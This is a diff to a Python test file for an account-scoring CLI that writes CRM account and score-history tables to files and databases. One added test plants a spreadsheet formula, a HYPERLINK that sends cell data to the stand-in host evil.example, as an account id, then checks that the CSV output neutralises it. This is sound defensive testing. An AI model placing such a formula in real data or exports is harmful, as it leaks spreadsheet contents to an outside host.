@@ -11,7 +11,8 @@ import sqlalchemy
 from typer.testing import CliRunner
 
 from radar.cli import app
-from serving.crm.table import NAMES
+from serving.crm.files import history_path
+from serving.crm.table import ACCOUNTS, NAMES
 from serving.scoring.batch import load_snapshots
 from serving.scoring.champions import load_champions
 from serving.scoring.score import score_frame
@@ -39,10 +40,12 @@ def test_score_writes_the_crm_table_and_a_rerun_changes_nothing(project):
     assert first.exit_code == 0, first.output
     frame, as_of = load_snapshots(settings)
     assert f"scored {len(frame):,} accounts at {as_of}" in first.output
-    assert f"{len(frame):,} inserted, 0 updated, 0 unchanged" in first.output
+    assert f"{len(frame):,} inserted, 0 updated, 0 unchanged; crm_accounts: {len(frame):,} changed" in first.output
     assert "Call list: red and yellow accounts by expected MRR lost" in first.output
     assert "Top expansion opportunities" in first.output
-    table = pd.read_parquet(target)
+    accounts = pd.read_parquet(target)
+    assert list(accounts.columns) == ACCOUNTS.names and accounts.account_id.is_unique and len(accounts) == len(frame)
+    table = pd.read_parquet(history_path(target))
     assert list(table.columns) == NAMES and len(table) == len(frame)
     assert table[["account_id", "as_of"]].duplicated().sum() == 0
     # the CRM rows are the scoring function's, for the same accounts
@@ -55,8 +58,9 @@ def test_score_writes_the_crm_table_and_a_rerun_changes_nothing(project):
 
     second = _score(project, "--to", str(target))
     assert second.exit_code == 0, second.output
-    assert f"0 inserted, 0 updated, {len(frame):,} unchanged" in second.output
-    pd.testing.assert_frame_equal(pd.read_parquet(target), table)  # not even scored_at moved
+    assert f"0 inserted, 0 updated, {len(frame):,} unchanged; crm_accounts: 0 changed" in second.output
+    pd.testing.assert_frame_equal(pd.read_parquet(history_path(target)), table)  # not even scored_at moved
+    pd.testing.assert_frame_equal(pd.read_parquet(target), accounts)
 
 
 def test_score_into_the_duckdb_workspace_and_postgresql(project, postgres_database):
@@ -64,9 +68,10 @@ def test_score_into_the_duckdb_workspace_and_postgresql(project, postgres_databa
     result = _score(project, "--to", "workspace", "--top", "0")
     assert result.exit_code == 0, result.output
     with duckdb.connect(str(settings.database_path), read_only=True) as con:
-        n, keys = con.execute("SELECT count(*), count(DISTINCT (account_id, as_of)) FROM crm_scores").fetchone()
+        n, keys = con.execute("SELECT count(*), count(DISTINCT (account_id, as_of)) FROM crm_score_history").fetchone()
+        accounts = con.execute("SELECT count(*) FROM crm_accounts WHERE status = 'active'").fetchone()[0]
     frame, _ = load_snapshots(settings)
-    assert n == keys == len(frame)
+    assert n == keys == accounts == len(frame)
 
     url = postgres_database("crm_from_cli")
     result = _score(project, "--to", url, "--top", "0")
@@ -74,7 +79,8 @@ def test_score_into_the_duckdb_workspace_and_postgresql(project, postgres_databa
     assert "inserted" in result.output
     engine = sqlalchemy.create_engine(url)
     with engine.connect() as con:
-        assert con.execute(sqlalchemy.text("SELECT count(*) FROM crm_scores")).scalar() == len(frame)
+        assert con.execute(sqlalchemy.text("SELECT count(*) FROM crm_score_history")).scalar() == len(frame)
+        assert con.execute(sqlalchemy.text("SELECT count(*) FROM crm_accounts")).scalar() == len(frame)
     rerun = _score(project, "--to", url, "--top", "0")
     assert rerun.exit_code == 0 and f"0 inserted, 0 updated, {len(frame):,} unchanged" in rerun.output
     engine.dispose()
@@ -89,6 +95,7 @@ def test_score_at_an_earlier_date_and_bad_dates(project):
     result = _score(project, "--to", str(target), "--as-of", str(pd.Timestamp(earlier).date()), "--top", "0")
     assert result.exit_code == 0, result.output
     assert set(pd.read_csv(target)["as_of"]) == {str(pd.Timestamp(earlier).date())}
+    assert set(pd.read_csv(history_path(target))["as_of"]) == {str(pd.Timestamp(earlier).date())}
 
     bad = _score(project, "--to", str(target), "--as-of", "yesterday")
     assert bad.exit_code == 2 and "not a date" in bad.output
@@ -113,6 +120,30 @@ def test_ids_and_names_with_markup_are_printed_literally_after_the_write(project
     assert result.exit_code == 0, result.output
     assert "[/bold]A00424" in result.output and "[red]x[/red]" in result.output
     assert "[/bold]A00424" in set(pd.read_parquet(target)["account_id"])
+
+
+def test_a_formula_in_an_account_id_reaches_the_csv_neutralised(project):
+    """An account id a spreadsheet would run as a formula is written with a leading quote,
+    in the accounts file and its history; the crm_id comes from the accounts table."""
+    _, _, settings, tmp = project
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with duckdb.connect(str(settings.database_path)) as con:
+        account = con.execute("SELECT min(account_id) FROM snapshots").fetchone()[0]
+        con.execute("UPDATE snapshots SET account_id = ? WHERE account_id = ?", [evil, account])
+        con.execute("CREATE TABLE IF NOT EXISTS accounts (account_id VARCHAR)")  # the served project has none
+        con.execute("ALTER TABLE accounts ADD COLUMN IF NOT EXISTS crm_id VARCHAR")
+        con.execute("DELETE FROM accounts WHERE account_id IN (?, ?)", [evil, account])
+        con.execute("INSERT INTO accounts (account_id, crm_id) VALUES (?, '0015g00000XyZ01')", [evil])
+    target = tmp / "out.csv"
+    result = _score(project, "--to", str(target), "--top", "0")
+    assert result.exit_code == 0, result.output
+    for where in (target, history_path(target)):
+        raw = pd.read_csv(where, dtype=str, keep_default_na=False)
+        assert "'" + evil in set(raw.account_id) and evil not in set(raw.account_id)
+        assert not raw.map(lambda v: v[:1] in ("=", "+", "@", "\t", "\r")).any().any()
+        assert raw.loc[raw.account_id == "'" + evil, "crm_id"].tolist()[-1] == "0015g00000XyZ01"
+    rerun = _score(project, "--to", str(target), "--top", "0")
+    assert "crm_accounts: 0 changed" in rerun.output  # read back as written
 
 
 def test_a_failure_to_print_after_the_write_is_a_warning(project, monkeypatch):
